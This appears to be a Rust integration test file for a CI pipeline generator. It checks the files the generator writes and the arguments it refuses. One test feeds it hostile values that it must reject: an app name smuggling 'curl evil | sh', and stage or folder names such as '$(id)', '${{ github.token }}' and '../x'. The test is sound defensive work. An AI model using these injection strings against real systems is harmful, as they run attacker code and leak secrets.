//! `cargo chalice generate-pipeline`: which files there are afterwards.

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;
use tempfile::TempDir;

/// A repository with an app in it, below that folder.
fn repository(folder: &str, config: Option<&str>) -> TempDir {
    let root = tempfile::tempdir().unwrap();
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/bootstrap");
    let app = root.path().join(folder);
    let write = |path: &str, text: &str| {
        let path = app.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    };
    for file in ["Cargo.toml", "src/main.rs"] {
        write(file, &fs::read_to_string(fixture.join(file)).unwrap());
    }
    if let Some(config) = config {
        write(".chalice/config.json", config);
    }
    fs::create_dir(root.path().join(".git")).unwrap();
    root
}

const TWO_STAGES: &str = r#"{ "version": "2.0", "app_name": "to_do", "stages": {
    "beta": {}, "prod": { "architecture": "arm64", "environment_variables": { "TABLE": { "ssm": "/t" } } } } }"#;

fn generate_pipeline(folder: &Path, arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_cargo-chalice"))
        .args(["chalice", "generate-pipeline"])
        .args(arguments)
        .current_dir(folder)
        .output()
        .unwrap()
}

#[track_caller]
fn generated(folder: &Path, arguments: &[&str]) -> String {
    let output = generate_pipeline(folder, arguments);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(output.status.success(), "{stderr}");
    stderr
}

#[track_caller]
fn refused(folder: &Path, arguments: &[&str]) -> String {
    let output = generate_pipeline(folder, arguments);
    assert!(!output.status.success());
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[test]
fn an_app_without_a_configuration() {
    let root = repository("", None);
    generated(root.path(), &["pipeline.json"]);
    let text = fs::read_to_string(root.path().join("pipeline.json")).unwrap();
    let template: Value = serde_json::from_str(&text).unwrap();
    let project = &template["Resources"]["BuildProject"]["Properties"];
    let buildspec = project["Source"]["BuildSpec"].as_str().unwrap();
    assert!(
        buildspec.contains("cargo chalice package --package bootstrap-fixture --stage dev out/dev"),
        "{buildspec}"
    );
    assert_eq!(
        template["Parameters"]["CodeBuildType"]["Default"],
        "LINUX_CONTAINER"
    );
    // Nothing was built.
    assert!(!root.path().join("target").exists());
}

#[test]
fn an_app_in_a_folder_of_the_repository() {
    let root = repository("apps/to do", Some(TWO_STAGES));
    let app = root.path().join("apps/to do");
    let stages = ["--stage", "prod", "--stage", "beta"];
    let arguments = [
        &stages[..],
        &["--approve", "beta", "-b", "../../ci/build.yml", "p.yaml"],
    ];
    generated(&app, &arguments.concat());
    let template = fs::read_to_string(app.join("p.yaml")).unwrap();
    for part in [
        "BuildSpec: ci/build.yml",
        "StackName: to-do-prod",
        "DeployRoleProd:",
        "Provider: Manual",
        "parameter/t",
    ] {
        assert!(template.contains(part), "{part}: {template}");
    }
    let buildspec = fs::read_to_string(root.path().join("ci/build.yml")).unwrap();
    for part in [
        "cd './apps/to do'\n",
        "base-directory: \"apps/to do/out/packaged\"\n",
        "\"apps/to do/target/**/*\"\n",
    ] {
        assert!(buildspec.contains(part), "{part}: {buildspec}");
    }

    let workflow = "../../.github/workflows/deploy.yml";
    let access = "access.json";
    let kind = [
        "--kind",
        "github-actions",
        "--access-template",
        access,
        workflow,
    ];
    assert_eq!(generated(&app, &[&stages[..], &kind].concat()), "");
    let text = fs::read_to_string(root.path().join(".github/workflows/deploy.yml")).unwrap();
    assert!(
        text.contains("working-directory: \"apps/to do\"\n"),
        "{text}"
    );
    let access: Value = serde_json::from_slice(&fs::read(app.join(access)).unwrap()).unwrap();
    assert!(access["Resources"]["WorkflowRoleBeta"].is_object());
}

#[test]
fn what_somebody_has_written_stays() {
    let root = repository("", None);
    let own = root.path().join("own.json");
    fs::write(&own, "{}").unwrap();
    let error = refused(root.path(), &["own.json"]);
    assert!(
        error.contains("own.json is there, and was not written by this command"),
        "{error}"
    );
    // Nor is the other file written.
    refused(root.path(), &["new.json", "-b", "own.json"]);
    assert_eq!(fs::read_to_string(&own).unwrap(), "{}");
    assert!(!root.path().join("new.json").exists());
    generated(root.path(), &["--force", "own.json"]);
    generated(root.path(), &["own.json"]);
    // What somebody has taken over has lost the line, wherever else it might stand.
    let taken_over = fs::read_to_string(&own)
        .unwrap()
        .replacen("Written by", "From", 1);
    fs::write(&own, taken_over).unwrap();
    refused(root.path(), &["own.json"]);
}

#[test]
fn what_cannot_be() {
    let root = repository("", Some(TWO_STAGES));
    for (arguments, part) in [
        (&["p.json"][..], "such as `--stage beta --stage prod`"),
        (&["p.json", "--stage", "prd"], "did you mean `prod`?"),
        (&["p.json", "--stage=-x"], "does not list the stage `-x`"),
        (
            &["p.json", "--stage", "beta", "--stage", "beta"],
            "deploys a stage once",
        ),
        (
            &["p.json", "--stage", "beta", "--approve", "prod"],
            "`--approve prod` is no stage of this pipeline",
        ),
        (
            &["p.json", "--stage", "beta", "--branch", "${{ x }}"],
            "cannot be taken",
        ),
        (
            &["p.json", "--stage", "beta", "-s", "codecommit"],
            "possible values: github",
        ),
        (
            &["p.json", "--stage", "beta", "-b", "/tmp/b.yml"],
            "is not in the repository",
        ),
        (
            &[
                "p.yml",
                "--stage",
                "beta",
                "--kind",
                "github-actions",
                "--approve",
                "beta",
            ],
            "required reviewers",
        ),
        (
            &[
                "p.yml",
                "--stage",
                "beta",
                "--kind",
                "github-actions",
                "-i",
                "x",
            ],
            "--codebuild-image is for",
        ),
        (
            &["p.json", "--stage", "beta", "--access-template", "a.json"],
            "--access-template is for",
        ),
    ] {
        let error = refused(root.path(), arguments);
        assert!(error.contains(part), "{arguments:?}: {error}");
    }
    let names: Vec<_> = fs::read_dir(root.path())
        .unwrap()
        .map(|it| it.unwrap().file_name())
        .collect();
    assert!(
        !names
            .iter()
            .any(|name| name.to_string_lossy().starts_with("p.")),
        "{names:?}"
    );
}

#[test]
fn names_that_mean_something_elsewhere() {
    let hostile = r#"{ "version": "2.0", "app_name": "a\"; curl evil | sh #" }"#;
    let root = repository("", Some(hostile));
    let error = refused(root.path(), &["p.json"]);
    assert!(error.contains("`app_name`"), "{error}");
    let root = repository("", None);
    for stage in ["$(id)", "a b", "${{ github.token }}", "../x", "a'b"] {
        let error = refused(root.path(), &["p.json", "--stage", stage]);
        assert!(error.contains("is the stage that is asked for"), "{error}");
    }
    let root = repository("$(touch x)", None);
    let error = refused(&root.path().join("$(touch x)"), &["p.json"]);
    assert!(
        error.contains("'$' is in the name of the folder"),
        "{error}"
    );
}

#[test]
fn a_workflow_elsewhere_is_noted() {
    let root = repository("", None);
    let note = generated(root.path(), &["--kind", "github-actions", "w.yml"]);
    assert!(
        note.contains("note: GitHub takes workflows from the folder .github/workflows"),
        "{note}"
    );
}
